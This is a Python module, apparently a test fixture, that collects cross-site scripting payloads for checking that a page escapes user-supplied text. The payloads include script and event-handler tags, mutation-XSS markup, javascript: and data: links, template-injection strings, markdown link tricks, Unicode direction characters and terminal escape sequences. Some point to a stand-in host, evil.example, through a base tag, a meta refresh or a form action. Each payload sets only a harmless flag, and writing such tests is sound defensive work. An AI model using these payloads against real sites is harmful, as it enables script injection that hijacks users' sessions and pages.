# SPDX-License-Identifier: MPL-2.0
"""Texts that run a script in a page that does not treat them as text. Each would set `pwned`."""

# One text for fields of any kind: it leaves attributes, elements, scripts, templates and texts of other languages.
SHORT = "'\"><img src=x onerror=pwned=1>{{pwned=1}}${pwned=1}</script><svg onload=pwned=1>\u202egpj"

WORD = "<svg onload=pwned=1>"

CORPUS = [
    "<script>pwned=1</script>",
    "</script><script>pwned=1</script>",
    "</textarea></title></style></noscript><script>pwned=1</script>",
    "<img src=x onerror=pwned=1>",
    "<img src=x:x onerror=\"pwned=1\"//>",
    "<svg onload=pwned=1>",
    "<svg><script href=data:,pwned=1 /></svg>",
    "<svg><animate xlink:href=#x attributeName=href values=javascript:pwned=1 /><a id=x><text y=20>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=pwned=1&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=pwned=1>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<iframe src=javascript:parent.pwned=1></iframe>",
    "<object data=javascript:pwned=1></object><embed src=javascript:pwned=1>",
    "<base href=https://evil.example/><link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<form action=https://evil.example/><input name=x autofocus onfocus=pwned=1></form>",
    "<details open ontoggle=pwned=1>x</details><video><source onerror=pwned=1></video>",
    "<a href=javascript:pwned=1>a</a><a href='java\tscript:pwned=1'>b</a><a href=\" javascript:pwned=1\">c</a>",
    "<a href=data:text/html,<script>opener.pwned=1</script> target=_blank>d</a>",
    "<div style=\"background:url(https://evil.example/x)\" onmouseover=pwned=1>e</div>",
    "<x onclick=pwned=1 id=main name=cookie>f</x><img name=getElementById><form id=app><input name=attributes></form>",
    "<template shadowrootmode=open><script>pwned=1</script></template>",
    "&lt;img src=x onerror=pwned=1&gt; &#60;script&#62;pwned=1&#60;/script&#62; &#x6A;avascript:pwned=1",
    "{{constructor.constructor('pwned=1')()}} ${pwned=1} #{pwned=1} <%= pwned=1 %> [[pwned=1]]",
    "__proto__ constructor toString hasOwnProperty",
    "[a](javascript:pwned=1) [b](JaVaScRiPt:pwned=1) [c](data:text/html,<script>opener.pwned=1</script>) [d](vbscript:pwned=1) [e](//evil.example/x)",
    "[f](<javascript:pwned=1>) [g](&#106;avascript:pwned=1) [h](java%0ascript:pwned=1) [i](https://good.example@evil.example/)",
    "![j](javascript:pwned=1) ![k](https://evil.example/x.png) ![l](data:image/svg+xml,<svg/onload=pwned=1>)",
    "[m]: javascript:pwned=1\n[m] <javascript:pwned=1> <https://evil.example/><img src=x onerror=pwned=1>",
    "[n](https://ok.example/\"onmouseover=\"pwned=1) [o](https://ok.example/ \"title\\\" onmouseover=pwned=1 x=\\\"\")",
    "```html\n<script>pwned=1</script>\n```",
    "`<img src=x onerror=pwned=1>` **<b onclick=pwned=1>bold</b>**",
    "| <img src=x onerror=pwned=1> | b |\n|---|---|\n| <svg onload=pwned=1> | [p](javascript:pwned=1) |",
    "- [ ] <input type=image src=x onerror=pwned=1>",
    "right \u202eto left\u202c, \u2066isolate\u2069, zero\u200bwidth, \u0085 next line, \u2028 separator \u2029 paragraph, \ufeff mark, \ufffe",
    "javascript:pwned=1//https://ok.example/ https://user:pw@evil.example/ http://[::1]:1/ https://ok.example/<script>pwned=1</script>",
    "W" * 400,
]
LONG = "\n\n".join(CORPUS)

LOG = ("\n".join(CORPUS) + "\n").encode() + (
    b"\x1b]8;;javascript:pwned=1\x07click\x1b]8;;\x07 \x1b]8;;data:text/html,<script>opener.pwned=1</script>\x1b\\data\x1b]8;;\x1b\\\n"
    b"\x1b]8;;https://ok.example/\x07fine\x1b]8;;\x07 \x1b]8;;https://a@evil.example/\x07user\x1b]8;;\x07\n"
    b"\x1b]0;<script>pwned=1</script>\x07 \x1b]52;c;cHduZWQ=\x07 \x1b[2J\x1b[999;999H\x1b[38;2;300;-1;1mcolour\x1b[0m\n"
    b"\x00\x01\x08\x7f\x9b31m \xff\xfe \xc0\xaf\xed\xa0\x80\n"
    b'{"@level":"error","@message":"<img src=x onerror=pwned=1>","type":"diagnostic","diagnostic":{"severity":"error","summary":"<svg onload=pwned=1>",'
    b'"detail":"<script>pwned=1</script>","address":"<img src=x onerror=pwned=1>","range":{"filename":"<b>x","start":{"line":1,"column":1,"byte":0},"end":{"line":1,"column":2,"byte":1}},'
    b'"snippet":{"context":"<i>","code":"<script>pwned=1</script>","start_line":1,"highlight_start_offset":0,"highlight_end_offset":8,"values":[]}}}\n'
)


def hostile(text, size="line"):
    """A hostile text where users may write that text."""
    return {"word": WORD, "line": SHORT, "text": f"{text}\n\n{LONG}"}[size]
